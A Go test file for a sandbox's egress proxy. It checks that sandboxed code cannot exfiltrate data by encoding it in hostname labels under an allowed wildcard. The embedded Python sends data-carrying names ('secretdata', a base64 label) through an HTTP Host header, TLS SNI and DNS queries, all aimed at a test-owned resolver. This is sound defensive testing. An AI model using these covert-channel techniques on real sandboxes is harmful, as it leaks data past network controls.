package sandbox

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/loomwork/loomwork/internal/testtier"
)

// loopbackDNS is a resolver the test owns: it records every question it
// gets and answers A upstreamIP for the names in known, NXDOMAIN otherwise.
type loopbackDNS struct {
	conn  net.PacketConn
	known map[string]bool
	mu    sync.Mutex
	asked []string
}

func startLoopbackDNS(t *testing.T, known ...string) *loopbackDNS {
	t.Helper()
	pc, err := net.ListenPacket("udp4", "127.0.0.3:0")
	if err != nil {
		t.Fatalf("listen for the test resolver: %v", err)
	}
	d := &loopbackDNS{conn: pc, known: map[string]bool{}}
	for _, k := range known {
		d.known[k] = true
	}
	t.Cleanup(func() { pc.Close() })
	go d.serve()
	return d
}

func (d *loopbackDNS) serve() {
	buf := make([]byte, 1500)
	for {
		n, from, err := d.conn.ReadFrom(buf)
		if err != nil {
			return
		}
		var p dnsmessage.Parser
		h, err := p.Start(buf[:n])
		if err != nil {
			continue
		}
		qs, err := p.AllQuestions()
		if err != nil || len(qs) != 1 {
			continue
		}
		name := strings.TrimSuffix(strings.ToLower(qs[0].Name.String()), ".")
		d.mu.Lock()
		d.asked = append(d.asked, name)
		d.mu.Unlock()
		msg := dnsmessage.Message{Header: dnsmessage.Header{ID: h.ID, Response: true, Authoritative: true}, Questions: qs}
		switch {
		case !d.known[name]:
			msg.Header.RCode = dnsmessage.RCodeNameError
		case qs[0].Type == dnsmessage.TypeA:
			msg.Answers = []dnsmessage.Resource{{
				Header: dnsmessage.ResourceHeader{Name: qs[0].Name, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET, TTL: 5},
				Body:   &dnsmessage.AResource{A: netip.MustParseAddr(upstreamIP).As4()},
			}}
		}
		if b, err := msg.Pack(); err == nil {
			_, _ = d.conn.WriteTo(b, from)
		}
	}
}

// resolver is a real Go DNS client pointed at the test's server only.
func (d *loopbackDNS) resolver() func(context.Context, string) ([]netip.Addr, error) {
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp4", d.conn.LocalAddr().String())
	}}
	return func(ctx context.Context, host string) ([]netip.Addr, error) {
		return r.LookupNetIP(ctx, "ip4", host)
	}
}

func (d *loopbackDNS) questions() []string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]string(nil), d.asked...)
}

// TestRootWildcardEgressNeverResolvesMadeUpNames is the DNS exfiltration
// test: sandboxed code names hosts under an allowed wildcard whose labels
// carry data — in a Host header, a TLS SNI and a DNS question — and not
// one of those names reaches the host's resolver (here a resolver the test
// owns, counting questions). The name the wildcard rule lists is still
// resolved there and reached.
func TestRootWildcardEgressNeverResolvesMadeUpNames(t *testing.T) {
	testtier.Slow(t) // a real sandbox
	up, port := startUpstream(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "upstream")
	}))
	up.Start()
	defer up.Close()
	dns := startLoopbackDNS(t, "ok.wild.test")
	r := newRunner(t, Config{EgressResolver: dns.resolver()})
	policy := &Egress{Allow: []EgressRule{
		{Host: "*.wild.test", Ports: []int{port}, Resolve: []string{"ok.wild.test"}},
		{CIDR: upstreamIP, Ports: []int{port}},
	}}
	res := py(t, r, egressClient+`
port = int(sys.argv[1])
def tcp(payload):
    s = socket.create_connection(('127.0.0.1', port), timeout=5)
    s.sendall(payload)
    data = s.recv(4096)
    s.close()
    return 'read %r' % data
def sni(name):
    ctx = ssl._create_unverified_context()
    s = ctx.wrap_socket(socket.create_connection(('127.0.0.1', port), timeout=5), server_hostname=name)
    return 'handshake done'
attempt('host header', lambda: tcp(b'GET / HTTP/1.1\r\nHost: secretdata.wild.test\r\n\r\n'))
attempt('host header deep', lambda: tcp(b'GET / HTTP/1.1\r\nHost: c2VjcmV0.more.wild.test\r\n\r\n'))
attempt('sni', lambda: sni('secretsni.wild.test'))
attempt('dns', lambda: socket.gethostbyname('secretdns.wild.test'))
attempt('listed', lambda: urllib.request.urlopen('http://ok.wild.test:%d/' % port, timeout=10).read().decode())
print(json.dumps(out))
`, Request{Command: []string{strconv.Itoa(port)}, Egress: policy})
	var got map[string]string
	decode(t, res, &got)
	t.Logf("sandbox saw: %v", got)
	asked := dns.questions()
	leaked := 0
	for _, q := range asked {
		if q != "ok.wild.test" {
			leaked++
			t.Errorf("the host's resolver was asked %q: the sandbox's labels left the proxy", q)
		}
	}
	if leaked != 0 {
		b, _ := json.MarshalIndent(res.Egress, "", "  ")
		t.Logf("egress report: %s", b)
	}
	if got["listed"] != "upstream" || len(asked) == 0 {
		t.Errorf("the listed name must still be resolved (on the test's resolver: %v) and reached: %q", asked, got["listed"])
	}
	if !strings.HasPrefix(got["dns"], "error: ") {
		t.Errorf("an unlisted name must not resolve inside the sandbox: %q", got["dns"])
	}
	for _, host := range []string{"secretdata.wild.test", "secretsni.wild.test"} {
		e, ok := findEvent(res.Egress, func(e EgressEvent) bool { return e.Host == host && e.Proto == "tcp" })
		if !ok || e.Verdict != "deny" || !strings.Contains(e.Reason, "does not list it in resolve") {
			t.Errorf("%s: want a deny event saying the wildcard does not list it, got %+v (found %v)", host, e, ok)
		}
	}
}

func TestEgressWildcardAllowMustListItsNames(t *testing.T) {
	err := (&Egress{Allow: []EgressRule{
		{Host: "*.a.test", Ports: []int{443}},
		{Host: "*.b.test", Ports: []int{443}, Resolve: []string{"x.c.test", "*.b.test", "b.test"}},
		{Host: "exact.test", Ports: []int{443}, Resolve: []string{"exact.test"}},
	}}).Validate()
	for _, want := range []string{
		`egress.allow[0]: host "*.a.test": a wildcard allow rule must list in resolve`,
		`egress.allow[1]: resolve[0] "x.c.test" is not an exact name under *.b.test`,
		`resolve[1] "*.b.test"`, `resolve[2] "b.test"`,
		`egress.allow[2]: resolve is only for a wildcard allow rule`,
	} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Validate = %v, want it to say %q", err, want)
		}
	}
}
